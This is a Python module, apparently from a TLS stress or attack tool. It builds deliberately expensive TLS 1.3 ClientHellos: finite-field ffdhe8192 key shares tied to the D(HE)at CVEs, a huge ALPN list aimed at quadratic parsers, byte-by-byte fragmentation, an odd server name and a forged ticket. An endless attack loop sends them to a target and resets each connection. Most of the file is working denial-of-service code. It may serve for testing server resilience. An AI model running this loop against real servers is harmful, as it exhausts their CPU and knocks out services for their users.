"""ClientHellos that are expensive to answer or to read, each on a connection of its own. An event is one.

``finite_field``: a key share of ffdhe8192 alone, which costs a server a hundred times what an elliptic curve
costs it (D(HE)at, CVE-2002-20001, CVE-2022-40735). ``protocols``: an ALPN list of as many names as fit,
which a parser that copies what is left goes through in quadratic time. ``fragments``: a record for each
byte. ``foreign_name``: a server name that is not ASCII. ``ticket``: a session ticket that the server never
gave. ``elliptic``: an ordinary one, to compare with.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator

from .attacker import Target, reset, until_answered
from .tls13 import client_hello, records

_ONE_LETTER_NAME = b"\x01x"

KINDS: dict[str, Callable[[], bytes]] = {
    "elliptic": lambda: records(client_hello()),
    "finite_field": lambda: records(client_hello("ffdhe8192")),
    "protocols": lambda: records(client_hello(protocols=_ONE_LETTER_NAME * 8000)),
    "fragments": lambda: records(client_hello(protocols=_ONE_LETTER_NAME * 2000), most=1),
    "foreign_name": lambda: records(client_hello(name="s\u00e9rver.example".encode())),
    "ticket": lambda: records(client_hello(ticket=os.urandom(240))),
}


def attack(target: Target, kind: str) -> Iterator[tuple[int, int]]:
    """Send a hello, wait for the first word in reply, and reset."""
    hello = KINDS[kind]()
    yield 0, 0
    while True:
        sock = target.connect()
        try:
            sock.sendall(hello)
        except ConnectionError:  # it was refused before all of it was sent
            pass
        until_answered(sock)
        reset(sock)
        yield 1, len(hello)
